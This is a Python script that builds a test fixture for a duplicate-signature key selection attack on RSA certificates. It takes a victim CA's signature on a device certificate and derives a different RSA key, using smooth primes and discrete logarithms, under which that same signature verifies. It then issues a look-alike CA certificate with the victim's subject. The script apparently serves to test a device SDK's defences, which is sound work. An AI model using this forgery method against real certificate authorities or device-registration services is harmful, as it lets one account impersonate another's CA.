"""Build the duplicate-signature key (DSKS) fixture of issue 10 once: tests/fixtures/dsks/.

The attack it reproduces: account A has a CA (``CN=My Device CA``) and a device certificate
signed by it. Account B builds an RSA key (n', e') under which *the same* PKCS#1 v1.5 signature
of A's device certificate also verifies, and a CA certificate with A's CA's subject and that key
(no Subject Key Identifier). B holds the private half, so proof of possession passes.

How: let s be the signature and m = s^65537 mod n (the encoded message A's key recovers). Pick
primes p', q' whose p'-1, q'-1 are smooth (products of ~20-bit primes), so that discrete
logarithms mod p' and q' are cheap (Pohlig-Hellman, sympy's ``discrete_log``). Solve
s^e_p = m (mod p') and s^e_q = m (mod q') with s a primitive root of both, combine e' by CRT;
then s^e' = m (mod n'), e' is a ~2,046-bit public exponent, and d' = e'^-1 mod lcm(p'-1, q'-1).

Made once and committed (the issue allows this fixture): forging takes seconds to minutes, and
the certificates are valid for 100 years so the fixture does not rot. sympy is used here only.

    python scripts/make_dsks_fixture.py [--out tests/fixtures/dsks]
"""

from __future__ import annotations

import argparse
import math
import random
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import sympy
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from sympy.ntheory.modular import crt, solve_congruence

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from device_sdk.certs import rsa_key_pkcs1_pem, signed_by  # noqa: E402
from firmware_helpers.pki import create_ca, issue_device_certificate, random_serial  # noqa: E402

CA_NAME = "My Device CA"
DAYS = 36500


def _smooth_prime(bits: int, pool: list[int], rng: random.Random) -> tuple[int, list[int]]:
    """A prime p of exactly ``bits`` bits with p - 1 = 2 * (distinct primes from ``pool``),
    and the prime factors of p - 1."""
    while True:
        product, factors = 2, [2]
        for r in rng.sample(pool, 80):
            if product.bit_length() >= bits:
                break
            product *= r
            factors.append(r)
        candidate = product + 1
        if candidate.bit_length() == bits and sympy.isprime(candidate):
            return candidate, factors


def _bsgs(g: int, h: int, r: int, p: int) -> int | None:
    """x in [0, r) with g^x = h (mod p), by baby-step giant-step."""
    step = math.isqrt(r) + 1
    table, value = {}, 1
    for j in range(step):
        table.setdefault(value, j)
        value = value * g % p
    giant = pow(g, -step, p)
    gamma = h
    for i in range(step):
        j = table.get(gamma)
        if j is not None:
            return i * step + j
        gamma = gamma * giant % p
    return None


def _discrete_log(s: int, m: int, p: int, factors: list[int]) -> int | None:
    """Pohlig-Hellman with the known square-free factorisation of p - 1."""
    residues, moduli = [], []
    for r in factors:
        x = _bsgs(pow(s, (p - 1) // r, p), pow(m, (p - 1) // r, p), r, p)
        if x is None:
            return None
        residues.append(x)
        moduli.append(r)
    return int(crt(moduli, residues)[0])


def _half(s: int, m: int, bits: int, pool: list[int], rng: random.Random) -> tuple[int, int]:
    """A smooth prime p and an e_p, coprime to p - 1, with s^e_p = m (mod p)."""
    while True:
        p, factors = _smooth_prime(bits, pool, rng)
        if any(pow(s, (p - 1) // r, p) == 1 for r in factors):
            continue  # s is not a primitive root of p
        e_p = _discrete_log(s % p, m % p, p, factors)
        if e_p is not None and math.gcd(e_p, p - 1) == 1:
            assert pow(s, e_p, p) == m % p
            return p, e_p


def forge(signature: int, modulus: int, rng: random.Random) -> rsa.RSAPrivateKey:
    m = pow(signature, 65537, modulus)
    primes = list(sympy.primerange(2**19, 2**20))
    rng.shuffle(primes)
    pool_p, pool_q = primes[0::2], primes[1::2]  # disjoint: gcd(p'-1, q'-1) = 2
    while True:
        p, e_p = _half(signature, m, 1024, pool_p, rng)
        q, e_q = _half(signature, m, 1024, pool_q, rng)
        n = p * q
        if n.bit_length() != 2048 or n <= signature:
            continue
        solved = solve_congruence((e_p, p - 1), (e_q, q - 1))
        if solved is None:
            continue
        e = int(solved[0])
        lam = (p - 1) * (q - 1) // int(sympy.gcd(p - 1, q - 1))
        d = int(sympy.mod_inverse(e, lam))
        assert pow(signature, e, n) == m
        public = rsa.RSAPublicNumbers(e, n)
        return rsa.RSAPrivateNumbers(
            p, q, d, d % (p - 1), d % (q - 1), int(sympy.mod_inverse(q, p)), public
        ).private_key()


def forged_ca(key: rsa.RSAPrivateKey, subject: x509.Name) -> x509.Certificate:
    """B's look-alike CA: A's subject, the forged key, no Subject Key Identifier."""
    now = datetime.now(UTC) - timedelta(days=1)
    return (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(random_serial())
        .not_valid_before(now)
        .not_valid_after(now + timedelta(days=DAYS))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )


def _pem(cert: x509.Certificate) -> bytes:
    return cert.public_bytes(serialization.Encoding.PEM)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=ROOT / "tests" / "fixtures" / "dsks")
    parser.add_argument("--seed", type=int, default=10)
    args = parser.parse_args(argv)
    rng = random.Random(args.seed)
    victim_ca = create_ca(CA_NAME, days=DAYS)
    device = issue_device_certificate(victim_ca, "victim-device", days=DAYS)
    signature = int.from_bytes(device.certificate.signature, "big")
    modulus = victim_ca.key.public_key().public_numbers().n
    forged_key = forge(signature, modulus, rng)
    assert signed_by(device.certificate, forged_key.public_key()), "forgery failed"
    cert = forged_ca(forged_key, victim_ca.certificate.subject)
    out: Path = args.out
    out.mkdir(parents=True, exist_ok=True)
    (out / "victim-ca.pem").write_bytes(_pem(victim_ca.certificate))
    (out / "victim-ca.key").write_bytes(rsa_key_pkcs1_pem(victim_ca.key))
    (out / "victim-device.pem").write_bytes(_pem(device.certificate))
    (out / "victim-device.key").write_bytes(rsa_key_pkcs1_pem(device.key))
    (out / "forged-ca.pem").write_bytes(_pem(cert))
    (out / "forged-ca.key").write_bytes(rsa_key_pkcs1_pem(forged_key))
    e = forged_key.public_key().public_numbers().e
    print(
        f"forged CA key: {forged_key.key_size}-bit modulus, {e.bit_length()}-bit public "
        f"exponent; written to {out}"
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
